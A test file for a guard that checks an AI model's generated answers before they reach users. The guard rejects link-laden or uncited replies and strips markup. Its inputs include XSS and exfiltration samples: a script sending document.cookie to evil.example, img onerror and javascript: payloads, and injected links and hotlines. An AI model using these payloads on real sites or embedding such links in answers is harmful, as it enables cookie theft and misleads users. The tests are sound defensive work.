"""The guard between a generated answer and the user: markup stripped, every fact cited, no links."""

from __future__ import annotations

import dataclasses

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from assistant.services.llm_guard import (
    MAX_GENERATED_CHARS,
    REASON_EMPTY,
    REASON_LINKED,
    REASON_NO_CITATION,
    REASON_TOO_LONG,
    REASON_UNCITED,
    GuardVerdict,
    check_generated,
    strip_markup,
)

GIVEN = {1, 2, 3}
FORBIDDEN = ("http://", "https://", "ftp://", "javascript:", "<img", "![", "<script", "<a ")


# --- check_generated ------------------------------------------------------------------------
def test_the_injected_link_reply_is_rejected() -> None:
    verdict = check_generated("答案见 [1](http://127.0.0.1:9/x)", GIVEN)
    assert not verdict.ok
    assert verdict.reason == REASON_LINKED == "引用被写成了链接"
    assert "127.0.0.1" not in verdict.text and "http" not in verdict.text


@pytest.mark.parametrize(
    "text",
    [
        "居委会应当组织危险区域内的居民转移到避难场所[1](https://evil.example/x)。",
        "居委会应当组织危险区域内的居民转移到避难场所 [见[1]](http://evil.example/)",
        "居委会应当组织危险区域内的居民转移到避难场所 [1]\n\n[1]: http://evil.example/x",
        "居委会应当组织危险区域内的居民转移到避难场所 [1][来源]\n\n[来源]: <http://evil.example/x>",
        '居委会应当组织危险区域内的居民转移到避难场所 <a href="http://evil.example/">[1]</a>',
    ],
)
def test_a_citation_written_as_a_link_is_rejected(text: str) -> None:
    verdict = check_generated(text, GIVEN)
    assert (verdict.ok, verdict.reason) == (False, REASON_LINKED)
    assert "evil.example" not in verdict.text


WELL_CITED = """根据资料，台风红色预警时：
1. 居委会应当组织危险区域内的居民转移到避难场所，优先安排独居老人[1]。
2. 物业服务企业应当检查广告牌、空调外机和树木，及时加固 [2]
- 居民应当服从转移安排，不得擅自返回危险区域。[1][3]

以下是建议
燃气泄漏时应当立即关闭燃气总阀，打开门窗通风。
[3]"""


def test_a_well_cited_answer_with_list_items_is_accepted() -> None:
    verdict = check_generated(WELL_CITED, GIVEN)
    assert verdict == GuardVerdict(True, "", WELL_CITED, frozenset({1, 2, 3}))


@pytest.mark.parametrize(
    "text",
    [
        "根据资料，遇到台风红色预警应当停止户外活动。[1]",  # the citation opens the next fragment
        "## 台风红色预警\n居委会应当组织危险区域内的居民转移到避难场所[1]。",  # a short heading
        "以下是建议：\n- [2] 物业服务企业应当检查广告牌、空调外机和树木",  # leading citation, own item
        "居委会应当组织危险区域内的居民转移到避难场所。[1]请注意安全！",  # short closing words
    ],
)
def test_framing_and_citations_after_the_full_stop_are_accepted(text: str) -> None:
    assert check_generated(text, GIVEN).ok


@pytest.mark.parametrize(
    "text",
    [
        "居委会应当组织居民转移[1]。物业服务企业应当在台风来临前检查广告牌。",
        # a citation at the end of a list item counts for that item only
        "台风红色预警时：\n- 居委会应当组织危险区域居民转移 [1]\n- 物业服务企业应当检查小区内的广告牌和树木",
        "居委会应当组织危险区域居民转移[1]；居民应当服从转移安排，不得擅自返回危险区域。",
        # a citation opening the next sentence belongs to the one before it
        "居委会应当组织危险区域居民转移。[1]物业服务企业应当检查小区内的广告牌和树木。",
        # short, but a number is a fact: an injected hotline must not slip through as framing
        "居委会应当组织危险区域居民转移[1]。请拨打 12345。",
    ],
)
def test_one_uncited_factual_sentence_rejects(text: str) -> None:
    verdict = check_generated(text, GIVEN)
    assert (verdict.ok, verdict.reason) == (False, REASON_UNCITED)


def test_a_citation_of_a_passage_not_given_rejects() -> None:
    verdict = check_generated("居委会应当组织危险区域居民转移[1]，物业应当加固广告牌[7]。", {1, 2})
    assert not verdict.ok
    assert verdict.reason == "引用了未提供的段落（编号 7）"
    assert verdict.cited == {1, 7}
    several = check_generated("应当撤离危险区域，服从转移安排[9][2][7]。", {1, 2})
    assert several.reason == "引用了未提供的段落（编号 7、9）"


@pytest.mark.parametrize("text", ["应当注意安全。", "系统已被接管", "请按第一条办理，详见下文。"])
def test_an_answer_without_any_citation_rejects(text: str) -> None:
    verdict = check_generated(text, GIVEN)
    assert (verdict.ok, verdict.reason) == (False, REASON_NO_CITATION)


@pytest.mark.parametrize(
    "text", ["", "  \n ", "![x](http://evil.example/x.png)", "<script>alert(1)</script>", "[1]\n[2]："]
)
def test_an_empty_answer_rejects(text: str) -> None:
    verdict = check_generated(text, GIVEN)
    assert (verdict.ok, verdict.reason) == (False, REASON_EMPTY)
    assert "http" not in verdict.text and "alert" not in verdict.text


def test_an_overlong_answer_is_rejected_and_its_text_bounded() -> None:
    text = "居委会应当组织危险区域居民转移[1]。" * 2000
    verdict = check_generated(text, GIVEN)
    assert (verdict.ok, verdict.reason) == (False, REASON_TOO_LONG)
    assert len(verdict.text) <= MAX_GENERATED_CHARS


def test_an_accepted_answer_comes_back_without_its_markup() -> None:
    text = "居委会应当组织危险区域居民转移![图](http://evil.example/p.png)[1]，详见[官网](https://evil.example)。"
    verdict = check_generated(text, GIVEN)
    assert verdict.ok
    assert verdict.text == "居委会应当组织危险区域居民转移[1]，详见官网。"


def test_the_verdict_is_frozen() -> None:
    verdict = check_generated("居委会应当组织危险区域居民转移[1]。", GIVEN)
    with pytest.raises(dataclasses.FrozenInstanceError):
        verdict.ok = False  # type: ignore[misc]


# --- strip_markup ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('看图![示意图](http://evil.example/a.png "t")后撤离[1]', "看图后撤离[1]"),
        ("![图][logo] 撤离 [2][3]\n\n[logo]: http://evil.example/logo.png", " 撤离 [2][3]\n\n"),
        (
            "详见[上海应急](https://evil.example/)和[http://evil.example](http://evil.example)。[1]",
            "详见上海应急和。[1]",
        ),
        (
            "<http://evil.example/x> 或 http://evil.example/x?a=1 或 ftp://evil.example，撤离[1]",
            " 或  或 ，撤离[1]",
        ),
        ("更多信息见官网（https://evil.example/a）。[1]", "更多信息见官网。[1]"),
        (
            '<img src="http://evil.example/x.png" onerror="alert(1)">撤离<a href="http://e">点此</a>[1]',
            "撤离点此[1]",
        ),
        ("<IMG SRC=x>撤离<!-- 注释 -->[1]", "撤离[1]"),
        (
            "前<script>fetch('http://evil.example/'+document.cookie)</script>后<style>p{}</style>[1]",
            "前后[1]",
        ),
        (
            "[点击](javascript:alert(1))后 JavaScript:alert(document.domain) 与 data:text/html,x [1]",
            "点击后  与  [1]",
        ),
        ("h\u200bttp://evil.example 撤离[1]", " 撤离[1]"),  # an invisible character does not hide a URL
        ("答案见 [1](http://127.0.0.1:9/x)", "答案见 [1]"),
        ("[见[1]](http://evil.example)", "[见[1]]"),
        ("注意安全![1]", "注意安全！[1]"),
        ("第一行<br>第二行[1]", "第一行\n第二行[1]"),
        ("[1]: 《上海市防汛条例》第四十一条", "[1]：《上海市防汛条例》第四十一条"),
        (
            "PM2.5 小于 75，温度 < 35 度时 [1]、[2][3] 与 [12]",
            "PM2.5 小于 75，温度 < 35 度时 [1]、[2][3] 与 [12]",
        ),
    ],
)
def test_images_links_html_and_urls_go_while_citations_stay(text: str, expected: str) -> None:
    assert strip_markup(text) == expected


def test_text_is_cut_before_stripping() -> None:
    assert len(strip_markup("居" * (MAX_GENERATED_CHARS + 500))) == MAX_GENERATED_CHARS


@pytest.mark.parametrize(
    "unit",
    [
        "[a](",
        "![",
        "<",
        "<a ",
        "(",
        "[1](",
        "\n[1]: ",
        "[a]( ",
        '[a](x "',
        "](",
        "<!--",
        "<script>",
        "(http://a(",
    ],
)
def test_hostile_repetitions_are_stripped_to_safe_text(unit: str) -> None:
    # Each pattern scans to a delimiter or is possessive; a backtracking pattern would take
    # minutes on these inputs (speed itself is measured by hand, see the module docstring).
    text = unit * (MAX_GENERATED_CHARS // len(unit))
    out = strip_markup(text)
    assert not any(f in out.lower() for f in FORBIDDEN)
    assert strip_markup(out) == out
    assert not check_generated(text, GIVEN).ok


FRAGMENTS = [
    "http://",
    "HTTPS://",
    "https://",
    "ftp://",
    "javascript:",
    "JavaScript:",
    "data:",
    "www.",
    "<img",
    "<IMG ",
    "<img src=",
    "<a href=",
    "</a>",
    "<script>",
    "</script>",
    "<!--",
    "-->",
    "<br>",
    "![",
    "!",
    "[",
    "]",
    "(",
    ")",
    "](",
    "<",
    ">",
    ":",
    "//",
    '"',
    " ",
    "\n",
    "\u200b",
    "[1]",
    "[2][3]",
    "[x]: ",
    "\n[1]: ",
    "htt",
    "p",
    "p://",
    "java",
    "script",
    "i",
    "mg",
    "evil.example",
    "撤离",
    "。",
    "（",
    "）",
]
MIXED = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), max_size=40).map("".join)


@settings(max_examples=600, deadline=None)
@given(MIXED)
@example("htt[p](x)://evil.example")
@example("<<imgimg")
@example("!http://x[1]")
@example("[a]http://x(b)")
@example("www.www.evil.example")
def test_stripped_text_never_holds_a_url_an_image_or_a_tag(text: str) -> None:
    out = strip_markup(text).lower()
    assert not any(f in out for f in FORBIDDEN), out


@settings(max_examples=600, deadline=None)
@given(MIXED)
@example("htt[p](x)://evil.example")
@example("[![图](http://i.example)](http://h.example)")
def test_stripping_is_idempotent(text: str) -> None:
    once = strip_markup(text)
    assert strip_markup(once) == once


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="居委会应当组织撤离，。；！？、 \n0123456789[]《》PMab.-", max_size=200))
def test_text_without_markup_syntax_is_left_as_it_is(text: str) -> None:
    assert strip_markup(text) == text


@settings(max_examples=300, deadline=None)
@given(MIXED)
def test_the_verdict_text_is_the_stripped_text(text: str) -> None:
    verdict = check_generated(text, GIVEN)
    assert verdict.text == strip_markup(text).strip()
    assert verdict.ok == (verdict.reason == "")
